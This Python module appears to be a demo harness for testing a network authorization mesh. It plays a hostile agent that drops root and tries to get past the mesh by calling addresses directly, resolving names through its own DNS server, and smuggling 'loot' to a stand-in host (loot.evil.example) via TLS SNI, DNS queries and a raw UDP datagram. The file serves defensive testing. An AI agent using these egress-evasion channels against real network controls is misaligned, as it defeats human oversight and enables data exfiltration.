"""An agent that is told nothing of a mesh, and tries to go around it.

Run as root in a network namespace: `python -m aegis_authz.demo.hostile_agent UID`. It becomes that user first, for
good; then it reads a line of JSON for each attempt, and answers with what it got.
"""

from __future__ import annotations

import http.client
import json
import os
import socket
import ssl
import struct
import sys
import time
from collections.abc import Mapping
from typing import Any

_PATIENCE = 10.0
_SHORT = 2.0
_FACTS = ("x-aegis-decision", "x-aegis-decision-id")


def _become(uid: int) -> None:
    "x".encode("idna")  # loads what ssl wants, while it may still be read
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)  # and the capabilities are gone with root


def _look_up(server: str, name: str) -> str:
    """The address of a name by a server of the agent's own choice; "" for none."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    question = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(_SHORT)
        datagrams.sendto(question, (server, 53))
        reply = datagrams.recv(512)
    return socket.inet_ntoa(reply[-4:]) if reply[6:8] == b"\0\1" else ""


def _call(order: Mapping[str, Any]) -> dict[str, object]:
    """A call, to the address that a name has here or to one that is given."""
    began, host = time.perf_counter(), order["host"]
    address = order.get("address") or _look_up(order["server"], host)
    plain = socket.create_connection((address, 443 if "authority" in order else 80), _PATIENCE)
    connection = http.client.HTTPConnection(host, timeout=_PATIENCE)
    if "authority" in order:
        context = ssl.create_default_context(cadata=order["authority"])
        connection.sock = context.wrap_socket(plain, server_hostname=host)
    else:
        connection.sock = plain
    body, kind = json.dumps(order["body"]), {"content-type": "application/json"}
    connection.request("POST", order["path"], body, kind)
    reply = connection.getresponse()
    reply.read()
    connection.close()
    facts: dict[str, object] = {name: reply.headers.get(name, "") for name in _FACTS}
    return {**facts, "status": reply.status, "ms": (time.perf_counter() - began) * 1000}


def _handshake(order: Mapping[str, Any]) -> dict[str, object]:
    """TLS with a host that nobody listed, whose name carries the loot."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((order["server"], 443), _SHORT) as plain:
        context.wrap_socket(plain, server_hostname="loot.evil.example").close()
    return {"status": "shook hands"}


def _datagram(order: Mapping[str, Any]) -> dict[str, object]:
    """A datagram to where QUIC would be spoken."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(b"loot", (order["server"], 443))
    return {"status": "sent"}


def _name(order: Mapping[str, Any]) -> dict[str, object]:
    """A question to a server of the agent's own, whose name carries the loot."""
    return {"status": _look_up(order["server"], "loot.evil.example") or "no such name"}


_KINDS = {"call": _call, "handshake": _handshake, "datagram": _datagram, "name": _name}


def _attempt(order: Mapping[str, Any]) -> dict[str, object]:
    try:
        return _KINDS[order["do"]](order)
    except (OSError, http.client.HTTPException) as fault:
        return {"status": f"refused: {type(fault).__name__}"}


if __name__ == "__main__":
    _become(int(sys.argv[1]))
    for line in sys.stdin:
        sys.stdout.write(json.dumps(_attempt(json.loads(line))) + "\n")
        sys.stdout.flush()
